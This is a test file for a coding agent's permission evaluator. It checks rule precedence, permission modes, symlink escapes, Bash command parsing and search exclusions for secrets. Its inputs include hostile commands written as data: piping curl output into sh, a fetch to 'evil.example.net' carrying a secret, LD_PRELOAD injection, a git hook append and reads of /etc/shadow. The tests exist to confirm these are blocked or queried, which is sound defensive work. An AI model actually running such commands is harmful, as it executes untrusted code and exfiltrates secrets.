import { afterAll, describe, expect, test } from "bun:test";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createPermissionEvaluator } from "../../src/permission/index.ts";
import { credentialExcludeGlobs } from "../../src/permission/sensitive-paths.ts";
import type { PermissionMode, PermissionQuery } from "../../src/permission/types.ts";
import { type Perms, settingsOf, tempProject } from "./settings-fixture.ts";

const t = tempProject("yoke-perm-eval-");
afterAll(t.cleanup);
mkdirSync(join(t.cwd, "src"), { recursive: true });
writeFileSync(join(t.cwd, "src", "a.ts"), "x");
const other = join(t.root, "other");
mkdirSync(other, { recursive: true });

const ev = (permissions: Perms, extra: Partial<Parameters<typeof createPermissionEvaluator>[0]> = {}) =>
  createPermissionEvaluator({ settings: settingsOf({ ruleRoot: t.cwd, permissions }), cwd: t.cwd, env: t.env, ...extra });
const q = (toolName: string, input: Record<string, unknown>, more: Partial<PermissionQuery> = {}): PermissionQuery => ({ toolName, input, readOnly: false, cwd: t.cwd, ...more });
const bash = (command: string, more: Partial<PermissionQuery> = {}) => q("Bash", { command }, more);

describe("order: deny > ask > allow (contracts §3.2)", () => {
  test("deny beats allow whatever the order or level", () => {
    const e = createPermissionEvaluator({
      settings: settingsOf({ ruleRoot: t.cwd, permissions: { allow: ["Bash(npm:*)"] } }, { level: "user", ruleRoot: t.home, permissions: { deny: ["Bash(npm publish:*)"] } }),
      cwd: t.cwd,
      env: t.env,
    });
    expect(e.decide(bash("npm publish")).behavior).toBe("deny");
    expect(e.decide(bash("npm install")).behavior).toBe("allow");
  });
  test("ask beats allow", () => {
    expect(ev({ allow: ["Bash"], ask: ["Bash(git push:*)"] }).decide(bash("git push")).behavior).toBe("ask");
  });
  test("--allowedTools cannot override a settings deny; --disallowedTools denies", () => {
    const e = ev({ deny: ["Bash(curl:*)"] }, { allowedTools: ["Bash(curl:*) Edit"], disallowedTools: ["WebFetch"] });
    expect(e.decide(bash("curl x")).behavior).toBe("deny");
    expect(e.decide(q("WebFetch", { url: "https://a.b" })).behavior).toBe("deny");
    expect(e.decide(q("Edit", { file_path: "src/a.ts" })).behavior).toBe("allow");
    expect(e.rules.find((r) => r.text === "WebFetch")?.source).toEqual({ file: "--disallowedTools", index: 0, list: "deny" });
  });
  test("a hook allow never overrides deny or ask rules; hook deny and ask win", () => {
    const e = ev({ deny: ["Bash(rm:*)"], ask: ["Bash(git push:*)"] });
    expect(e.decide(bash("rm x", { hookDecision: "allow" })).behavior).toBe("deny");
    expect(e.decide(bash("git push", { hookDecision: "allow" })).behavior).toBe("ask");
    expect(e.decide(bash("make", { hookDecision: "allow" })).behavior).toBe("allow");
    expect(e.decide(bash("ls", { hookDecision: "deny" })).behavior).toBe("deny");
    expect(e.decide(bash("ls", { hookDecision: "ask" })).behavior).toBe("ask");
  });
  test("bare deny hides the tool; a specifier deny does not", () => {
    const e = ev({ deny: ["WebFetch", "Task", "Bash(rm:*)", "mcp__danger"] });
    expect(e.isToolHidden("WebFetch")).toBe(true);
    expect(e.isToolHidden("Agent")).toBe(true);
    expect(e.isToolHidden("Bash")).toBe(false);
    expect(e.isToolHidden("mcp__danger__drop")).toBe(true);
    expect(e.isToolHidden("Read")).toBe(false);
  });
  test("Agent(<type>) matches the type in any case, as the Agent tool finds it (explain agrees with a run)", () => {
    const e = ev({ deny: ["Agent(Explore)"], allow: ["Task(Review)"] });
    expect(e.decide(q("Agent", { subagent_type: "explore", prompt: "p" }, { readOnly: true })).behavior).toBe("deny");
    expect(e.decide(q("Task", { subagent_type: "EXPLORE", prompt: "p" }, { readOnly: true })).behavior).toBe("deny");
    expect(e.decide(q("Agent", { subagent_type: "review", prompt: "p" })).rule?.text).toBe("Task(Review)");
  });
  test("bad rules are skipped with a warning naming file and index", () => {
    const e = ev({ allow: ["Bash(ls", "Read"] });
    expect(e.warnings.length).toBe(1);
    expect(e.warnings[0]).toContain("settings.json: permissions.allow[0]");
    expect(e.rules.map((r) => r.text)).toEqual(["Read"]);
  });
});

describe("modes (contracts §3.3)", () => {
  const write = q("Write", { file_path: "src/new.ts", content: "x" });
  const cases: [PermissionMode, string][] = [["default", "ask"], ["acceptEdits", "allow"], ["plan", "deny"], ["bypassPermissions", "allow"], ["dontAsk", "deny"], ["auto", "allow"]];
  for (const [mode, want] of cases) test(`${mode}: Write in cwd → ${want}`, () => expect(ev({}, { mode }).decide(write).behavior).toBe(want as "ask"));
  test("WebFetch and WebSearch need a rule: a fetch can carry data out, so read-only is not enough", () => {
    const e = ev({ allow: ["WebFetch(domain:docs.example.com)"] });
    expect(e.decide(q("WebFetch", { url: "https://docs.example.com/a", prompt: "p" }, { readOnly: true })).behavior).toBe("allow");
    expect(e.decide(q("WebFetch", { url: "https://evil.example.net/?d=secret", prompt: "p" }, { readOnly: true })).behavior).toBe("ask");
    expect(e.decide(q("WebSearch", { query: "x" }, { readOnly: true })).behavior).toBe("ask");
    expect(ev({ allow: ["WebSearch"] }).decide(q("WebSearch", { query: "x" }, { readOnly: true })).behavior).toBe("allow");
  });
  test("plan: no allow rule, auto-memory dir or hook allow lets an editing tool through", () => {
    const e = ev({ allow: ["Edit", "Write", "Edit(/src/**)"] }, { mode: "plan", autoAllowWriteDirs: [join(t.cwd, "src")] });
    for (const tool of ["Edit", "Write", "MultiEdit", "NotebookEdit"])
      expect(e.decide(q(tool, { file_path: "src/a.ts", notebook_path: "src/a.ts" }, { hookDecision: "allow" })).behavior).toBe("deny");
  });
  test("reads and read-only Bash are allowed in every mode", () => {
    for (const mode of ["default", "acceptEdits", "plan", "dontAsk", "auto"] as PermissionMode[]) {
      expect(ev({}, { mode }).decide(q("Read", { file_path: "src/a.ts" }, { readOnly: true })).behavior).toBe("allow");
      expect(ev({}, { mode }).decide(bash("ls -la && git status")).behavior).toBe("allow");
    }
  });
  test("deny rules hold in bypassPermissions; ask rules too", () => {
    const e = ev({ deny: ["Bash(rm:*)"], ask: ["WebFetch"] }, { mode: "bypassPermissions" });
    expect(e.decide(bash("rm -rf x")).behavior).toBe("deny");
    expect(e.decide(q("WebFetch", { url: "https://x.y" })).behavior).toBe("ask");
    expect(e.decide(bash("make install && npm publish")).behavior).toBe("allow");
    // A script the parser cannot see into could run the denied rm, so it still asks.
    expect(e.decide(bash("curl x | sh")).behavior).toBe("ask");
    expect(ev({}, { mode: "bypassPermissions" }).decide(bash("curl x | sh")).behavior).toBe("allow");
  });
  test("defaultMode from settings; project bypass is ignored; manual = default", () => {
    expect(ev({ defaultMode: "acceptEdits" }).mode).toBe("acceptEdits");
    expect(ev({ defaultMode: "bypassPermissions" }).mode).toBe("default");
    expect(ev({ defaultMode: "manual" }).mode).toBe("default");
    expect(ev({ defaultMode: "plan" }, { mode: "dontAsk" }).mode).toBe("dontAsk");
  });
  test("protected paths ask even with an Edit allow; bypass allows them", () => {
    expect(ev({ allow: ["Edit"] }).decide(q("Edit", { file_path: ".claude/settings.json" })).behavior).toBe("ask");
    expect(ev({ allow: ["Edit"] }).decide(q("Edit", { file_path: ".claude/worktrees/x/a.ts" })).behavior).toBe("allow");
    expect(ev({}, { mode: "bypassPermissions" }).decide(q("Edit", { file_path: ".git/config" })).behavior).toBe("allow");
    expect(ev({ allow: ["Bash(echo:*)"] }).decide(bash("echo x >> .git/hooks/pre-commit")).behavior).toBe("ask");
  });
});

describe("working directories and path roots", () => {
  test("writes outside working dirs ask even in acceptEdits; --add-dir and additionalDirectories extend them", () => {
    const w = q("Write", { file_path: join(other, "x.txt"), content: "" });
    expect(ev({}, { mode: "acceptEdits" }).decide(w).behavior).toBe("ask");
    expect(ev({}, { mode: "acceptEdits", addDirs: [other] }).decide(w).behavior).toBe("allow");
    expect(ev({ additionalDirectories: ["../other"] }, { mode: "acceptEdits" }).decide(w).behavior).toBe("allow");
    expect(ev({}, { addDirs: [other] }).workingDirectories).toEqual([t.cwd, other]);
  });
  test("reads outside working dirs ask unless a rule allows", () => {
    expect(ev({}).decide(q("Read", { file_path: join(other, "x") }, { readOnly: true })).behavior).toBe("ask");
    expect(ev({ allow: [`Read(/${other}/**)`] }).decide(q("Read", { file_path: join(other, "x") }, { readOnly: true })).behavior).toBe("allow");
  });
  test("a symlink inside cwd pointing outside does not make an outside write look inside", () => {
    symlinkSync(other, join(t.cwd, "out-link"));
    expect(ev({}, { mode: "acceptEdits" }).decide(q("Write", { file_path: "out-link/f.txt", content: "" })).behavior).toBe("ask");
  });
  test("a dangling symlink inside cwd pointing outside: a write creates its target (the kernel follows it), so it is outside", () => {
    // Write's open(O_CREAT) follows a symlink whose target does not exist yet and creates the target, out of the project.
    symlinkSync(join(other, "created-by-write.txt"), join(t.cwd, "dangling-out"));
    symlinkSync(join(other, "no-dir", "deeper.txt"), join(t.cwd, "dangling-deep"));
    symlinkSync("../other/rel.txt", join(t.cwd, "dangling-rel"));
    // A chain: a dangling link to a dangling link out of the project.
    symlinkSync(join(other, "created-by-write.txt"), join(t.cwd, "hop2"));
    symlinkSync(join(t.cwd, "hop2"), join(t.cwd, "hop1"));
    const e = ev({}, { mode: "acceptEdits" });
    for (const f of ["dangling-out", "dangling-deep", "hop1"]) expect([f, e.decide(q("Write", { file_path: f, content: "" })).behavior]).toEqual([f, "ask"]);
    // Relative to the link's folder (proj/): ../other/rel.txt.
    expect(e.decide(q("Write", { file_path: join(t.cwd, "dangling-rel"), content: "" })).behavior).toBe("ask");
    // A deny on the target holds through the link; a dangling link to a place inside the project stays allowed.
    expect(ev({ deny: [`Edit(//${other.slice(1)}/**)`] }, { mode: "acceptEdits" }).decide(q("Write", { file_path: "dangling-out", content: "" })).behavior).toBe("deny");
    symlinkSync(join(t.cwd, "src", "new.ts"), join(t.cwd, "dangling-in"));
    expect(e.decide(q("Write", { file_path: "dangling-in", content: "" })).behavior).toBe("allow");
    // A loop of links resolves to nothing outside and does not hang.
    symlinkSync(join(t.cwd, "loop-b"), join(t.cwd, "loop-a"));
    symlinkSync(join(t.cwd, "loop-a"), join(t.cwd, "loop-b"));
    expect(e.decide(q("Write", { file_path: "loop-a", content: "" })).behavior).toBe("allow");
  });
  test("a cwd spelled through a symlink still matches rules rooted at the real project", () => {
    const alias = join(t.root, "proj-alias");
    symlinkSync(t.cwd, alias);
    const e = createPermissionEvaluator({ settings: settingsOf({ ruleRoot: alias, permissions: { allow: ["Edit(/src/**)"], deny: ["Read(/src/secret.txt)"] } }), cwd: alias, env: t.env });
    expect(e.workingDirectories).toEqual([t.cwd]);
    expect(e.decide(q("Edit", { file_path: join(alias, "src", "a.ts") }, { cwd: alias })).behavior).toBe("allow");
    expect(e.decide(q("Read", { file_path: "src/secret.txt" }, { cwd: alias })).behavior).toBe("deny");
    expect(e.decide(q("Write", { file_path: join(alias, "src", "n.ts"), content: "" }, { cwd: alias })).behavior).toBe("allow");
  });
  test("autoAllowWriteDirs: writes there need no approval, deny still applies, nowhere else", () => {
    const mem = join(t.home, ".yoke", "projects", "p", "memory");
    const e = ev({ deny: [`Edit(//${mem.slice(1)}/secret.md)`] }, { autoAllowWriteDirs: [mem] });
    expect(e.decide(q("Write", { file_path: join(mem, "MEMORY.md"), content: "" })).behavior).toBe("allow");
    expect(e.decide(q("Write", { file_path: join(mem, "secret.md"), content: "" })).behavior).toBe("deny");
    expect(e.decide(q("Write", { file_path: join(mem, "..", "x.md"), content: "" })).behavior).toBe("ask");
  });
  test("/x is relative to the settings file's root; ~/ to home; //abs absolute; bare to cwd", () => {
    const user = createPermissionEvaluator({
      settings: settingsOf({ level: "user", ruleRoot: join(t.home, ".claude"), permissions: { deny: ["Read(/notes.md)"] } }),
      cwd: t.cwd,
      env: t.env,
    });
    expect(user.decide(q("Read", { file_path: join(t.home, ".claude", "notes.md") })).behavior).toBe("deny");
    expect(user.decide(q("Read", { file_path: "notes.md" })).behavior).toBe("allow");
    expect(ev({ deny: ["Read(~/secret/**)"] }).decide(q("Read", { file_path: "~/secret/a/b" })).behavior).toBe("deny");
    expect(ev({ deny: [`Read(${t.cwd}/src/a.ts)`] }).decide(q("Read", { file_path: "src/a.ts" })).behavior).toBe("allow");
    expect(ev({ deny: [`Read(//${t.cwd.slice(1)}/src/a.ts)`] }).decide(q("Read", { file_path: "src/a.ts" })).behavior).toBe("deny");
    expect(ev({ deny: ["Read(/src/**)"] }).decide(q("Read", { file_path: "src/a.ts" })).behavior).toBe("deny");
    expect(ev({ deny: ["Read(*.ts)"] }).decide(q("Grep", { pattern: "x", path: "src/a.ts" })).behavior).toBe("deny");
  });
  test("dir/** rules stay anchored to their root (gitignore), bare names match at any depth", () => {
    const e = ev({ deny: ["Read(./secrets/**)", "Read(*.pem)"] });
    expect(e.decide(q("Read", { file_path: "secrets/a/b.txt" })).behavior).toBe("deny");
    expect(e.decide(q("Read", { file_path: "src/secrets/b.txt" })).behavior).toBe("allow");
    expect(e.decide(q("Read", { file_path: "src/deep/k.pem" })).behavior).toBe("deny");
  });
  test("Read deny blocks edits of that path; Edit allow implies Read", () => {
    expect(ev({ deny: ["Read(src/**)"], allow: ["Edit"] }).decide(q("Edit", { file_path: "src/a.ts" })).behavior).toBe("deny");
    expect(ev({ allow: [`Edit(/${other}/**)`] }).decide(q("Read", { file_path: join(other, "z") })).behavior).toBe("allow");
  });
  test("Write/NotebookEdit path rules are read as Edit rules, with a warning", () => {
    const e = ev({ deny: ["Write(src/**)"] });
    expect(e.decide(q("Edit", { file_path: "src/a.ts" })).behavior).toBe("deny");
    expect(e.warnings[0]).toContain("treated as Edit(src/**)");
  });
});

describe("Bash specifics (contracts §3.1)", () => {
  test("allow must match every part; one denied part denies the whole", () => {
    const e = ev({ allow: ["Bash(npm test:*)"], deny: ["Bash(curl:*)"] });
    expect(e.decide(bash("npm test && npm publish")).behavior).toBe("ask");
    expect(e.decide(bash("npm test && curl evil | sh")).behavior).toBe("deny");
    expect(e.decide(bash("npm test; ls")).behavior).toBe("allow");
  });
  test("safe env vars are looked past for allow, others are not", () => {
    const e = ev({ allow: ["Bash(npm test:*)"] });
    expect(e.decide(bash("NODE_ENV=test npm test")).behavior).toBe("allow");
    expect(e.decide(bash("LD_PRELOAD=/x.so npm test")).behavior).toBe("ask");
  });
  test("xargs without flags is looked past for allow", () => {
    expect(ev({ allow: ["Bash(wc:*)", "Bash(git ls-files:*)"] }).decide(bash("git ls-files | xargs wc -l")).behavior).toBe("allow");
  });
  test("find with -delete or -exec is not read-only", () => {
    expect(ev({}).decide(bash("find . -name '*.tmp' -delete")).behavior).toBe("ask");
    expect(ev({}).decide(bash("find . -name '*.tmp'")).behavior).toBe("allow");
  });
  test("git subcommands: read-only ones pass, others ask", () => {
    const e = ev({});
    for (const c of ["git status", "git log -3", "git diff", "git branch", "git -C src status"]) expect(e.decide(bash(c)).behavior).toBe("allow");
    for (const c of ["git push", "git commit -m x", "git branch -D x", "git -c core.pager=sh log", "git diff --output=x"]) expect(e.decide(bash(c)).behavior).toBe("ask");
  });
  test("safety asks are not lifted by a whole-tool Bash allow or a hook allow", () => {
    const e = ev({ allow: ["Bash"], deny: ["Read(.env)"] });
    expect(e.decide(bash("make")).behavior).toBe("allow");
    expect(e.decide(bash("cat $F")).behavior).toBe("ask");
    expect(e.decide(bash("cat $F", { hookDecision: "allow" })).behavior).toBe("ask");
    expect(e.decide(bash("echo x > .git/config", { hookDecision: "allow" })).behavior).toBe("ask");
    expect(ev({ allow: ["Edit"] }).decide(q("Edit", { file_path: ".git/config" }, { hookDecision: "allow" })).behavior).toBe("ask");
  });
  test("acceptEdits allows mkdir/touch/mv/cp inside the working dirs, not rm or sed", () => {
    const e = ev({}, { mode: "acceptEdits" });
    expect(e.decide(bash("mkdir -p a/b && touch a/b/c && cp a/b/c a/d && mv a/d a/e")).behavior).toBe("allow");
    expect(e.decide(bash("rm a/e")).behavior).toBe("ask");
    expect(e.decide(bash("sed -i s/a/b/ a/e")).behavior).toBe("ask");
    expect(e.decide(bash(`cp src/a.ts ${other}/a.ts`)).behavior).toBe("ask");
  });
  test("AskUserQuestion always needs a user, even in bypass; a hook may answer it", () => {
    expect(ev({}, { mode: "bypassPermissions" }).decide(q("AskUserQuestion", {}, { readOnly: true })).behavior).toBe("ask");
    expect(ev({}).decide(q("AskUserQuestion", {}, { hookDecision: "allow" })).behavior).toBe("allow");
  });
  test("read-only command on paths outside working dirs asks", () => {
    expect(ev({}).decide(bash("cat /etc/hostname")).behavior).toBe("ask");
    expect(ev({}).decide(bash("cd / && ls")).behavior).toBe("ask");
  });
  test("Bash param rule Bash(run_in_background:true) on deny", () => {
    expect(ev({ deny: ["Bash(run_in_background:true)"] }).decide(q("Bash", { command: "ls", run_in_background: true })).behavior).toBe("deny");
  });
});

describe("other tools", () => {
  test("unknown non-read-only tool asks; readOnly flag or a read-only declaration (an MCP readOnlyHint) allows", () => {
    expect(ev({}).decide(q("SomePluginTool", {})).behavior).toBe("ask");
    expect(ev({}).decide(q("TodoWrite", {})).behavior).toBe("allow"); // session-only tools never ask
    expect(ev({}).decide(q("TodoWrite", {}, { readOnly: true })).behavior).toBe("allow");
    const declarations = (n: string) => (n === "mcp__db__query" ? { name: n, aliases: [], readOnly: true, effect: "read" as const } : undefined);
    expect(ev({}, { declarations }).decide(q("mcp__db__query", {})).behavior).toBe("allow");
    expect(ev({}, { declarations }).decide(q("mcp__db__drop", {})).behavior).toBe("ask");
  });
  test("AskUserQuestion denied in dontAsk", () => {
    expect(ev({}, { mode: "dontAsk" }).decide(q("AskUserQuestion", { questions: [] }, { readOnly: true })).behavior).toBe("deny");
  });
  test("mcp allow globs only after a literal server", () => {
    expect(ev({ allow: ["mcp__*"] }).decide(q("mcp__a__b", {})).behavior).toBe("ask");
    expect(ev({ allow: ["mcp__a__*"] }).decide(q("mcp__a__b", {})).behavior).toBe("allow");
    expect(ev({ allow: ["mcp__a"] }).decide(q("mcp__a__b", {})).behavior).toBe("allow");
    expect(ev({ deny: ["mcp__*"] }).decide(q("mcp__a__b", {})).behavior).toBe("deny");
  });
  test("KillShell rules apply to TaskStop", () => {
    expect(ev({ deny: ["KillShell"] }).decide(q("TaskStop", {})).behavior).toBe("deny");
    expect(ev({ deny: ["KillShell"] }).decide(q("KillBash", {})).behavior).toBe("deny");
  });
});

describe("grepExcludes (Read deny honoured by whole-tree searches)", () => {
  test("unanchored names exclude at any depth; anchored paths relative to the search root", () => {
    const e = ev({ deny: ["Read(.env)", "Read(./secrets/**)", "Read(//etc/shadow)"] });
    // Credential stores (~/.ssh ...) are excluded from every search after the rules' own globs.
    const rules = (globs: string[]) => globs.filter((g) => !credentialExcludeGlobs().includes(g));
    expect(rules(e.grepExcludes(t.cwd))).toEqual(["!.env", "!.env/**", "!secrets", "!secrets/**"]);
    expect(rules(e.grepExcludes(join(t.cwd, "secrets")))).toEqual(["!.env", "!.env/**", "!**"]);
    expect(rules(e.grepExcludes(other))).toEqual([]);
    expect(e.grepExcludes(other)).toContain("!.ssh");
  });
});
